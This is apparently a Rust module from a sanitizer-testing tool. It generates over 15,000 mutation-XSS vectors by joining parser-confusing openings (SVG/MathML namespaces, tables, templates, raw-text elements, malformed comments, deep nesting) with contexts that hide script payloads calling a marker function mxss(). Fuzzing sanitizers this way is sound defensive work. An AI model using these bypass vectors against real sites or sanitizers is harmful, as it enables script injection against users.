//! Generates attacks on sanitizers: markup whose tree changes if it is serialized and parsed again ("mutation XSS").
//!
//! An attack vector has three parts. The opening changes the state of the parser, but parsing the serialized tree does not lead to the same
//! state. In the context, the first parse treats the payload as text. The payload is a script that calls `mxss()`.

/// Openings: namespaces, elements that are moved or closed early, modes of tables and templates, raw text, and deep nesting.
const OPENINGS: &[&str] = &[
    "",
    "<svg>",
    "<math>",
    "<svg></p>",
    "<math></br>",
    "<math><mtext>",
    "<math><mi><mglyph>",
    "<math><mtext><malignmark>",
    "<math><mtext><table><mglyph>",
    "<math><mtext></p><mglyph><svg>",
    "<math><annotation-xml>",
    "<math><annotation-xml encoding=text/html>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg>",
    "<math><annotation-xml encoding=text/html><mglyph>",
    "<svg><annotation-xml><foreignobject>",
    "<svg><foreignObject><math><mi>",
    "<svg><desc><math><mtext>",
    "<svg><title><svg>",
    "<svg><title><p><svg>",
    "<svg><desc><table><svg>",
    "<form><math><mtext></form><form><mglyph>",
    "<form><svg><desc></form><form>",
    "<form><div></form><form>",
    "<form><input></form><form><form>",
    "<table><form><svg>",
    "<table><math><mtext>",
    "<table><tr><svg></tr>",
    "<table><td></table><svg><caption>",
    "<table><caption><svg></caption><svg>",
    "<table><a><table><a>",
    "<a><table><a><svg>",
    "<a><svg><a>",
    "<p><svg></p><svg>",
    "<b><p><svg></b><svg>",
    "<nobr><nobr><math>",
    "<h1><svg><h2></h1>",
    "<button><math><button>",
    "<template>",
    "<template><svg>",
    "<template><tr><svg></template><math>",
    "<svg><template>",
    "<div><template shadowrootmode=open><svg>",
    "<select>",
    "<select><svg>",
    "<select><option><math><mtext>",
    "<select><template></select>",
    "<noscript>",
    "<noscript><svg>",
    "<svg><noscript>",
    "<xmp><svg></xmp>",
    "<iframe><svg></iframe>",
    "<noembed></noembed><svg>",
    "<textarea><svg></textarea>",
    "<title><svg></title>",
    "<svg><textarea>",
    "<svg><xmp>",
    "<math><iframe>",
    "<svg><plaintext>",
    "<svg><![CDATA[]]><style>",
    "<!-->",
    "<!--->",
    "<!---!><svg>",
    "<!--x--!><svg>",
    "<?x <svg>?>",
    "<!doctype \"><svg>",
    "<frameset>",
    "<ruby><rt><svg></ruby>",
    "<applet><p><marquee><svg></applet>",
    "<dl><dd><svg></dl><dt>",
];

/// Elements whose content is text or markup depending on the namespace or on scripting.
const TEXT_ELEMENTS: &[&str] =
    &["style", "title", "textarea", "xmp", "noscript", "iframe", "noembed", "noframes", "script"];

/// Payloads. They contain no double quotes, because some contexts put them in double quotes.
const PAYLOADS: &[&str] = &[
    "<img src=x onerror=mxss()>",
    "<svg onload=mxss()>",
    "<script>mxss()</script>",
    "<a href=javascript:mxss()>x</a>",
    "<style onload=mxss()></style>",
    "<svg><set attributeName=href to=javascript:mxss()>",
];

/// Depths near the limit of browsers.
const DEPTHS: &[usize] = &[509, 510, 511, 512, 513];

/// Returns the payload in a context in which a parser may treat it as text. `index` selects the context. Returns `None` if there is no
/// context with this index.
fn in_context(index: usize, payload: &str) -> Option<String> {
    let escaped = || payload.replace('<', "&lt;").replace('>', "&gt;");
    let count = TEXT_ELEMENTS.len();
    Some(match (index / count, TEXT_ELEMENTS[index % count]) {
        (0, name) => format!("<{name}><a id=\"</{name}>{payload}\">"),
        (1, name) => format!("<{name}><!--</{name}>{payload}--></{name}>"),
        (2, name) => format!("<{name}>{}</{name}>", escaped()),
        (3, name) => format!("<{name}><![CDATA[</{name}>{payload}]]></{name}>"),
        (4, "style") => payload.to_owned(),
        (4, "title") => format!("<!--><p title=\"-->{payload}\">"),
        (4, "textarea") => format!("<p title=\"--!>{payload}\"><!--"),
        (4, "xmp") => format!("<![CDATA[{payload}]]>"),
        (4, "noscript") => format!("<p title=\"]]>{payload}\"><![CDATA["),
        (4, "iframe") => format!("<!--&gt;{payload}--!>"),
        (4, "noembed") => format!("<plaintext>{payload}"),
        (4, "noframes") => format!("<?x {}?><p id=\"?>{payload}\">", escaped()),
        (4, _) => format!("<p<b title=\"/>{payload}\">"),
        _ => return None,
    })
}

/// Returns all attack vectors, more than 15,000.
pub fn vectors() -> impl Iterator<Item = String> {
    let contexts = move |payload: &'static str| (0..).map_while(move |index| in_context(index, payload));
    let shallow = OPENINGS.iter().flat_map(move |opening| {
        PAYLOADS
            .iter()
            .flat_map(move |payload| contexts(payload).map(move |in_context| format!("{opening}{in_context}")))
    });
    let deep = DEPTHS.iter().flat_map(move |&depth| {
        ["<div>", "<b>", "<svg>", "<font color=x><p>"].into_iter().flat_map(move |element| {
            let opening = element.repeat(depth / (1 + element.matches('<').count() / 2));
            contexts(PAYLOADS[0]).map(move |in_context| format!("{opening}<svg></p>{in_context}"))
        })
    });
    shallow.chain(deep)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn vectors_are_many_and_differ() {
        let all: Vec<String> = vectors().collect();
        let different: HashSet<&str> = all.iter().map(String::as_str).collect();
        assert!(different.len() > 15_000, "{}", different.len());
        assert!(all.iter().all(|vector| vector.contains("mxss()")));
    }
}
